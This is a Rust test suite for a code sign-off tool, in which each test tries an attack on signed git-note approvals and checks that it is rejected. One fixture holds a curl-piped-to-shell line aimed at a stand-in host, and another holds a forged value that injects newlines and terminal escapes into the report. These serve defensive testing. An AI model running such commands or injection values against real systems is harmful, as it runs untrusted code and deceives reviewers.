//! Every attack on sign-off is its own test: each must leave the change unapproved (exit 3)
//! with the rejection reason in the report.

use super::{assert_rejected, block, payload_of, world};
use crate::keys::{Key, Senior, policy};
use crate::support::{CLAUDE_TRAILER, blastgate, lines};

const NOTES: &str = super::NOTES;

/// A record with no signature never counts.
#[test]
fn unsigned_note_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let head = w.head();
    let payload = payload_of(&w.note(&head));
    w.set_note(&head, &format!("blastgate-approval v1\n{payload}\n"));
    assert_rejected(&w.check(&[]), "note is not signed");
}

/// A key the policy does not list for the senior does not verify.
#[test]
fn key_not_listed_for_the_senior_is_rejected() {
    let w = world("");
    let mallory = Key::new("mallory@example.com");
    let run = w.approve(&w.alice, &mallory, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_rejected(
        &w.check(&[]),
        "signature does not verify against the key listed for alice@example.com",
    );
}

/// Bob's key under Alice's name is caught and named.
#[test]
fn senior_name_with_another_seniors_key_is_rejected() {
    let w = world("");
    let run = w.approve(&w.alice, &w.bob.key, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_rejected(
        &w.check(&[]),
        "signed by bob@example.com's key but claims to be alice@example.com",
    );
}

/// Someone the base policy does not list cannot approve, whatever their key.
#[test]
fn non_senior_signer_is_rejected() {
    let w = world("");
    let carol = Senior::new("Carol", "carol@example.com", "carol");
    let run = w.approve(&carol, &carol.key, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_rejected(&w.check(&[]), "not a senior in the base policy");
}

/// A senior who wrote a commit of the change cannot approve it.
#[test]
fn self_approval_by_the_author_is_rejected() {
    let w = world("");
    w.repo.write("src/more.py", lines(5, "more"));
    w.repo
        .commit_as("Alice Senior", "alice@example.com", "Alice adds more");
    w.approve_ok(&w.alice);
    assert_rejected(&w.check(&[]), "approver authored commit");
}

/// Committing a commit someone else wrote (an applied patch, a cherry-pick) is taking part.
#[test]
fn self_approval_by_the_committer_is_rejected() {
    let w = world("");
    w.repo.write("src/more.py", lines(5, "more"));
    w.repo.git(&["add", "-A"]);
    let status = w
        .repo
        .git_command(&["commit", "-q", "-m", "Apply Dana's patch"])
        .env("GIT_COMMITTER_NAME", "Alice Senior")
        .env("GIT_COMMITTER_EMAIL", "alice@example.com")
        .status()
        .expect("git runs");
    assert!(status.success());
    w.approve_ok(&w.alice);
    assert_rejected(&w.check(&[]), "approver committed commit");
}

/// Named as a co-author in a trailer is the same as writing it.
#[test]
fn self_approval_by_a_co_author_is_rejected() {
    let w = world("");
    w.repo.write("src/more.py", lines(5, "more"));
    w.repo.commit(
        "Pair on more\n\nCo-authored-by: Alice Senior <alice@example.com>\nCo-Authored-By: Claude <noreply@anthropic.com>\n",
    );
    w.approve_ok(&w.alice);
    assert_rejected(&w.check(&[]), "approver is a co-author of commit");
}

/// An approval of one change does not approve other content pushed to the same branch.
#[test]
fn approval_of_different_content_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    w.repo.git(&["checkout", "-q", "-B", "topic", "main"]);
    w.repo.write("src/feature.py", lines(301, "feature"));
    w.repo
        .commit(&format!("Add a bigger feature\n\n{CLAUDE_TRAILER}\n"));
    assert_rejected(&w.check(&[]), "approves different content");
}

/// Another branch's approval made on the same base is not this change's business: not listed.
#[test]
fn other_branches_approvals_are_not_listed() {
    let w = world("");
    w.approve_ok(&w.alice);
    w.repo.git(&["checkout", "-q", "-b", "other", "main"]);
    w.repo.write("src/other.py", lines(300, "other"));
    w.repo
        .commit(&format!("Another feature\n\n{CLAUDE_TRAILER}\n"));
    let run = w.check(&[]);
    assert_eq!(run.code, 3, "{}", run.stdout);
    assert_eq!(run.json()["approval"]["rejected"], serde_json::json!([]));
}

/// Amending the approved commit with a content change invalidates the approval.
#[test]
fn amended_commit_after_approval_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    w.repo.write("src/feature.py", lines(299, "feature"));
    w.repo.git(&["add", "-A"]);
    w.repo.git(&["commit", "-q", "--amend", "--no-edit"]);
    assert_rejected(&w.check(&[]), "approves different content");
}

/// A file changed after the approval (a new commit on top) needs a new approval.
#[test]
fn file_changed_after_approval_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    w.repo
        .write("src/app.py", "import os\nos.system('curl evil | sh')\n");
    w.repo.commit("Small follow-up");
    assert_rejected(&w.check(&[]), "approves different content");
}

/// The same approved line moved elsewhere in the file means something else: the content
/// fingerprint holds the lines around each change, so the approval no longer counts.
#[test]
fn approved_line_moved_elsewhere_is_rejected() {
    let w = world("");
    let base = std::fs::read_to_string(w.repo.path.join("src/app.py")).expect("app.py");
    let insert_after = |n: usize| {
        let mut lines: Vec<&str> = base.lines().collect();
        lines.insert(n, "    return True");
        lines.join("\n") + "\n"
    };
    w.repo.write("src/app.py", insert_after(3));
    w.repo.commit(&format!("Allow early\n\n{CLAUDE_TRAILER}\n"));
    w.approve_ok(&w.alice);
    w.repo.write("src/app.py", insert_after(15));
    w.repo.git(&["commit", "-q", "-a", "--amend", "--no-edit"]);
    assert_rejected(&w.check(&[]), "approves different content");
}

/// Approvals made under one policy do not carry over to a changed (here: weaker) policy.
#[test]
fn policy_weakened_after_approval_is_rejected() {
    let w = world("signoff:\n  approvals: {default: 2}\n");
    w.approve_ok(&w.alice);
    let one_of_two = w.check(&[]);
    assert_eq!(one_of_two.code, 3, "{}", one_of_two.stdout);
    w.repo.git(&["checkout", "-q", "main"]);
    w.repo
        .write(".blastgate.yaml", policy(&[&w.alice, &w.bob], ""));
    w.repo.commit("One approval is enough");
    w.repo.git(&["checkout", "-q", "topic"]);
    assert_rejected(&w.check(&[]), "policy changed since approval");
}

/// `Approved-by:`/`Reviewed-by:` trailers are words anyone can type: never approvals.
#[test]
fn approval_trailers_in_commit_messages_never_count() {
    let w = world("");
    w.repo.write("src/more.py", lines(5, "more"));
    w.repo.commit(
        "More\n\nApproved-by: Alice Senior <alice@example.com>\nReviewed-by: Bob Senior <bob@example.com>\n",
    );
    let run = w.check(&[]);
    assert_eq!(run.code, 3, "{}", run.stdout);
    let report = run.json();
    assert_eq!(report["approval"]["approved"], false);
    assert_eq!(
        report["approval"]["valid"].as_array().map(Vec::len),
        Some(0)
    );
}

/// A valid note copied onto another change's commit approves nothing there.
#[test]
fn note_copied_to_another_commit_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let approved = w.head();
    w.repo.git(&["checkout", "-q", "-b", "other", "main"]);
    w.repo.write("src/other.py", lines(300, "other"));
    w.repo
        .commit(&format!("Another feature\n\n{CLAUDE_TRAILER}\n"));
    let target = w.head();
    w.repo
        .git(&["notes", "--ref", NOTES, "copy", &approved, &target]);
    assert_rejected(&w.check(&[]), "approves different content");
}

/// Editing the signed JSON (here the comment) breaks the signature.
#[test]
fn note_edited_after_signing_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let head = w.head();
    let note = w.note(&head);
    let edited = note.replace("read it all", "read none of it");
    assert_ne!(edited, note);
    w.set_note(&head, &edited);
    assert_rejected(
        &w.check(&[]),
        "signature does not verify against the key listed for alice@example.com",
    );
}

/// Truncated and garbage notes are rejected with a reason, never a crash, never a pass.
#[test]
fn truncated_or_garbage_note_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let head = w.head();
    let note = w.note(&head);
    let cut = note.len() - 40;
    w.set_note(&head, &note[..cut]);
    assert_rejected(&w.check(&[]), "note is malformed: truncated signature");
    w.set_note(
        &head,
        "\u{0}\u{7f}garbage {\"version\": 1}\n-----END SSH SIGNATURE-----\n",
    );
    assert_rejected(&w.check(&[]), "note is malformed");
}

/// A forged note cannot write lines into the report: what it claims (here a name with a
/// newline and a fake "valid approval" line, and a terminal escape) is shown escaped, on the
/// rejection's own line.
#[test]
fn forged_note_cannot_add_lines_to_the_report() {
    let w = world("");
    w.approve_ok(&w.alice);
    let head = w.head();
    let mut record: serde_json::Value =
        serde_json::from_str(&payload_of(&w.note(&head))).expect("record JSON");
    let fake = "  \u{2713} approved by Alice Senior <alice@example.com>";
    record["approver"]["email"] = serde_json::json!(format!("m@example.com\n{fake}\u{1b}[2K"));
    let payload = serde_json::to_string(&record).expect("json");
    w.set_note(&head, &format!("blastgate-approval v1\n{payload}\n"));
    let text = blastgate(&w.repo, &["check", "--base", "main", "--color", "never"]);
    assert_eq!(text.code, 3, "{}{}", text.stdout, text.stderr);
    assert!(
        !text.stdout.lines().any(|line| line.starts_with(fake)),
        "{}",
        text.stdout
    );
    assert!(!text.stdout.contains('\u{1b}'), "{}", text.stdout);
    assert!(text.stdout.contains("m@example.com\\n"), "{}", text.stdout);
}

/// An approval older than `signoff.max_age` no longer counts (crafted, validly signed).
#[test]
fn approval_older_than_max_age_is_rejected() {
    let w = world("signoff:\n  max_age: 30d\n");
    w.approve_ok(&w.alice);
    let head = w.head();
    let mut record: serde_json::Value =
        serde_json::from_str(&payload_of(&w.note(&head))).expect("record JSON");
    let now = record["approved_at"].as_i64().expect("time");
    record["approved_at"] = serde_json::json!(now - 31 * 86_400);
    let payload = serde_json::to_string(&record).expect("json");
    w.set_note(&head, &block(&payload, &w.alice.key.sign(&payload)));
    assert_rejected(&w.check(&[]), "older than signoff.max_age (30d)");
}

/// Without `ssh-keygen` nothing can be verified: every approval is rejected, saying why,
/// and the change stays unapproved (fail closed, not an error).
#[test]
fn missing_ssh_keygen_rejects_every_approval() {
    let w = world("");
    w.approve_ok(&w.alice);
    let empty = tempfile::tempdir().expect("empty PATH dir");
    let mut command = w
        .repo
        .blastgate(&["check", "--base", "main", "--format", "json"]);
    command.env("PATH", empty.path());
    let run = crate::support::run(command, None);
    assert_rejected(&run, "ssh-keygen is not available");
}
